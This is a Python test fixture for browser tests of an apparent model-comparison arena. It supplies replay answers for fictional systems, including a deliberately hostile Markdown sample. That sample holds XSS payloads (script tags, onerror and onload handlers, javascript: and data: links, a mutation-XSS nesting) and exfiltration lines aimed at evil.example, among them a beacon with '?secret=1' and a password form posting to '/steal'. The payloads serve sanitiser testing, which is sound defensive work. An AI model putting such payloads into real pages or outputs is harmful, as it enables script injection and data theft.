"""What the systems of the browser tests say: something worth showing, something long, something hostile."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Final

SHOWN: Final = "How do noise-cancelling headphones work, and when do they fail?"
LONG: Final = "Tell me the story of the lighthouse keeper."
MORE: Final = "And how did it end?"
HOSTILE: Final = "Show me your worst Markdown."
BROKEN_ARENA: Final = "broken"

_SHOWN_ANSWERS: Final = (
    """They play *anti-noise*. A microphone on the outside hears the hum around you, a small chip turns the wave
upside down, and the speaker plays it back. Where a peak meets a trough, both vanish.

### When they fail

- **Sudden sounds.** A slamming door is over before the chip has answered.
- **High voices.** Above about 1 kHz the waves are too short to be met exactly.
- **Wind.** It makes noise in the microphone itself, so there is nothing real to cancel.

```python
def cancelled(outside: list[float]) -> list[float]:
    return [-sample for sample in outside]  # the whole idea
```
""",
    """Noise-cancelling headphones work in three steps:

1. A microphone **listens** to the sound outside.
2. A processor computes the **opposite** wave, shifted by half a period: $p(t) + p(t + T/2) = 0$.
3. The speaker **adds** it to your music.

| Sound | How well it works |
| --- | --- |
| Engine hum, air conditioning | very well |
| Office voices | partly |
| Crying baby, clatter | hardly |

They also need batteries, and a good *passive* seal: cancelling works best below 1,000 Hz, foam above it.
""",
)
_HOSTILE: Final = """# Hello <script>window.hacked = 1; alert(1)</script>

<img src="https://evil.example/beacon.png" onerror="window.hacked = 2">
![beacon](https://evil.example/beacon.png?secret=1) ![x](http://127.0.0.1:9/pixel.png)
<iframe src="https://evil.example/"></iframe> <style>@import url(https://evil.example/x.css);</style>
<svg onload="window.hacked = 3"><a href="javascript:window.hacked=4">x</a></svg>

[click me](javascript:window.hacked=5) [data](data:text/html,<script>alert(1)</script>) [fine](https://good.example/page)

<form action="https://evil.example/steal"><input name="password"></form>
<link rel="prefetch" href="https://evil.example/prefetch"> <meta http-equiv="refresh" content="0;url=https://evil.example">
<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 6"></style></mglyph></table></mtext></math>
$\\href{javascript:window.hacked=8}{x}$ $\\style{position:fixed;inset:0}{x}$
$\\class{dialog}{x}$ $\\includegraphics{https://evil.example/x.png}$

```html
<img src=x onerror="window.hacked = 7">
```

The end.
"""


def _long(name: str) -> str:
    chapters = (
        f"The lamp was lit for night number {n}, and the sea had *much* to say about it. " for n in range(1, 61)
    )
    return f"A story as the {name} one tells it.\n\n" + "\n\n".join(chapters)


def arenas(folder: Path) -> Iterator[dict[str, Any]]:
    """The systems files: of text, and of an arena that is out of order."""
    yield systems(folder)
    yield broken_systems()


def systems(folder: Path) -> dict[str, Any]:
    """The systems file of the arena, its replay files written into `folder`."""
    makers = ("Northlight Labs", "Fjord AI", "Open Harbour", "Kestrel Research")
    names = ("northlight-2-large", "fjord-8b-instruct", "harbour-mini", "kestrel-tiny")
    entries = []
    for number, (name, maker) in enumerate(zip(names, makers, strict=True)):
        answers = {
            # Two systems only: the picture in the README always shows these answers.
            **({SHOWN: _SHOWN_ANSWERS[number]} if number < len(_SHOWN_ANSWERS) else {}),
            LONG: _long(("first", "second", "third", "fourth")[number]),
            MORE: f"It ended well. ({number + 1})",
            HOSTILE: f"{_HOSTILE}\nNumber {number + 1}.",
        }
        path = folder / f"{name}.jsonl"
        path.write_text("\n".join(json.dumps({"prompt": p, "output": o}) for p, o in answers.items()))
        entries.append(
            {
                "name": name,
                "organisation": maker,
                "access": "open" if number else "proprietary",
                "licence": "Apache-2.0" if number else "proprietary",
                "backend": "replay",
                "path": str(path),
                "tokens_per_second": 400,
                "price_in": 0.5 * (number + 1),
                "price_out": 2 * (number + 1),
                "release_outputs": True,
            }
        )
    return {
        "arena": "text",
        "arena_name": "Text",
        "arena_description": "Ask anything; two anonymous systems answer.",
        "demo": True,
        "suggestions": [SHOWN, LONG],
        "systems": entries,
    }


def broken_systems() -> dict[str, Any]:
    """An arena whose systems never answer: nothing listens at their address."""
    entry = {"backend": "openai_http", "base_url": "http://127.0.0.1:9/v1", "model": "m", "organisation": "Nobody"}
    return {
        "arena": BROKEN_ARENA,
        "arena_name": "Out of order",
        "systems": [{**entry, "name": name} for name in ("silent-one", "silent-two")],
    }
